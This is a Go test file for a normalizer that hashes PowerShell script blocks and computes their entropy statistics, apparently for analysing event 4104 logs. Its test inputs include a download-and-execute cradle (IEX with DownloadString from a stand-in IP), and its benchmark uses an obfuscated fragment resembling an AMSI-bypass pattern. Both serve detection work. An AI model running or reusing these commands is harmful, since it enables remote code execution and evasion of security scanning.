package normalizer

import (
	"math"
	"strings"
	"testing"
)

// TestScriptBlockHash: the expected values are base64(SHA-1("\x00" +
// text without ASCII whitespace)), computed with sha1sum.
func TestScriptBlockHash(t *testing.T) {
	t.Parallel()
	tests := []struct{ text, want string }{
		{"", "W6k8nbDP+T9StSHXQg5D9u2ieE8="},
		{"a b\tc\r\n\v\fd", "R3Jzc5oybEhprpzzFTsXatHz3Kk="},
		{"abcd", "R3Jzc5oybEhprpzzFTsXatHz3Kk="},
		// U+00A0 is no \s to Java: kept.
		{"é\u00a0 x", "BGM6WXjxTPlzzH+fgsEtx4B8C3I="},
		{`$c = New-Object Net.WebClient; IEX $c.DownloadString("http://198.51.100.7/a.ps1")`, "fQ8NJOY/OzOZyYMQ6JG0LiNPD/0="},
	}
	for _, tt := range tests {
		if got := scriptBlockHash(tt.text); got != tt.want {
			t.Errorf("scriptBlockHash(%q) = %s, want %s", tt.text, got, tt.want)
		}
	}
}

// TestScriptBlockStats: the expected values come from an independent
// implementation of the pipeline's script in Python (unicodedata NFC,
// UTF-16 units, logarithms correctly rounded with decimal at 60 digits).
func TestScriptBlockStats(t *testing.T) {
	t.Parallel()
	const sig64 = "MIIbDQYJKoZIhvcNAQcCoIIa/jCCGvoCAQExCzAJBgUrDgMCGgUAMGkGCisGAQQB"
	tests := []struct {
		name, text string
		ok         bool
		want       scriptStats
	}{
		{"one character", "a", true, scriptStats{0, 0, 0, 1, 1}},
		{"ascii", `Write-Host "hello world"`, true, scriptStats{3.7720552088742005, 0.82270143066184387, 0.61957641473976433, 24, 15}},
		// e + U+0301 composes to é, which then counts twice; U+212B (Å)
		// becomes U+00C5; the emoji is two UTF-16 units.
		{"NFC and surrogates", "e\u0301t\u00e9 \U0001F600 \u212b!", true, scriptStats{2.725480556997868, 0.85979338809523165, 0.49690399499995319, 9, 7}},
		{"signature cut", "IEX $x\r\n# SIG # Begin signature block\r\n# MIIbDQYJKoZIhvcNAQcCoIIa", true, scriptStats{2.9999999999999996, 1, 0, 8, 8}},
		{"signature fragment", "# x\n# " + sig64 + "\r\n# y", false, scriptStats{}},
		{"63 characters are no signature line", "# x\n# " + sig64[:63] + "\n# y", true, scriptStats{4.7670234100722384, 0.77013869532592716, 0.95729912686167251, 73, 34}},
		{"marker with nothing after it stays", "abc # SIG # Begin signature block", true, scriptStats{4.0895524525606683, 0.81071231862445714, 0.88771652408236112, 33, 20}},
		{"only a signature", "# SIG # Begin signature block\nxyz", false, scriptStats{}},
		{"empty", "", false, scriptStats{}},
	}
	var sc scriptScratch
	for _, tt := range tests {
		got, ok := sc.scriptBlockStats(tt.text)
		if ok != tt.ok || got != tt.want {
			t.Errorf("%s: scriptBlockStats(%q) = %+v, %v; want %+v, %v", tt.name, tt.text, got, ok, tt.want, tt.ok)
		}
	}
}

// TestJavaLog: javaLog is log correctly rounded; the expected values were
// computed with Python's decimal at 60 digits, and include arguments where
// math.Log is one ulp off.
func TestJavaLog(t *testing.T) {
	t.Parallel()
	tests := []struct{ x, want float64 }{
		{1, 0},
		{2, 0.6931471805599453},
		{0.5, -0.6931471805599453},
		{1.0 / 3, -1.0986122886681098},
		{10, 2.302585092994046},
		{3364, 8.120886021092838},
	}
	for _, tt := range tests {
		if got := javaLog(tt.x); got != tt.want {
			t.Errorf("javaLog(%v) = %.17g, want %.17g", tt.x, got, tt.want)
		}
	}
	// Every probability c/l of a script of up to 200 units, against the
	// correctly rounded value's neighbours: javaLog is never further than
	// math.Log's one ulp, and agrees with it or improves on it.
	for l := 2; l <= 200; l++ {
		for c := 1; c < l; c++ {
			p := float64(c) / float64(l)
			got, lib := javaLog(p), math.Log(p)
			if got != lib && math.Nextafter(lib, got) != got {
				t.Fatalf("javaLog(%d/%d) = %.17g, math.Log %.17g: more than one ulp apart", c, l, got, lib)
			}
		}
	}
}

func FuzzScriptBlockStats(f *testing.F) {
	for _, s := range []string{"a", "e\u0301t\u00e9 \U0001F600", "x\n# SIG # Begin signature block\ny", "# x\n# " + strings.Repeat("A", 64), "\xff\xfe"} {
		f.Add(s)
	}
	var sc scriptScratch
	f.Fuzz(func(t *testing.T, s string) {
		st, ok := sc.scriptBlockStats(s)
		if !ok {
			return
		}
		if st.length < 1 || st.uniqueSymbols < 1 || st.uniqueSymbols > st.length {
			t.Fatalf("%q: length %d, unique %d", s, st.length, st.uniqueSymbols)
		}
		if st.entropyNormalized < 0 || st.entropyNormalized > 1 || st.entropyBits < 0 || st.surprisalStdev < 0 {
			t.Fatalf("%q: %+v out of range", s, st)
		}
		// Entropy is at most log2 of the number of distinct units.
		if max := math.Log2(float64(st.uniqueSymbols)); st.entropyBits > max+1e-9 {
			t.Fatalf("%q: %v bits over %d symbols", s, st.entropyBits, st.uniqueSymbols)
		}
		if math.IsNaN(st.entropyBits) || math.IsNaN(st.surprisalStdev) {
			t.Fatalf("%q: NaN in %+v", s, st)
		}
		// The counts are back to zero for the next script.
		for _, c := range sc.counts {
			if c != 0 {
				t.Fatal("counts not cleared")
			}
		}
	})
}

// BenchmarkScriptBlockStats: the entropy script on a 1.6 KiB obfuscated
// script block (66 distinct units), as 4104 runs it once per event.
func BenchmarkScriptBlockStats(b *testing.B) {
	script := strings.Repeat(`$WER = [PSObject].Assembly.GetType(((\"{0}{1}\" -f'Sy','st')+(\"{0}{1}\" -f 'em','.M')+'ana'))`+"\n", 16)
	var sc scriptScratch
	sc.scriptBlockStats(script)
	b.ReportAllocs()
	b.SetBytes(int64(len(script)))
	for b.Loop() {
		sc.scriptBlockStats(script)
	}
}
